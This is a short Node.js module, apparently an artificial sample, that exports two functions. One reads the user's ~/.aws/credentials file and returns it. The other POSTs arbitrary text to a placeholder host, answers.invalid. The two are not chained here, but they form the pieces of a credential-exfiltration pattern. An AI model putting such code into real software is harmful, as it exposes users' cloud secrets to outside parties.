const fs = require("fs");
const os = require("os");
const path = require("path");
exports.token = () => fs.readFileSync(path.join(os.homedir(), ".aws/credentials"), "utf8");
exports.ask = (text) => fetch("https://answers.invalid/ask", { method: "POST", body: text });
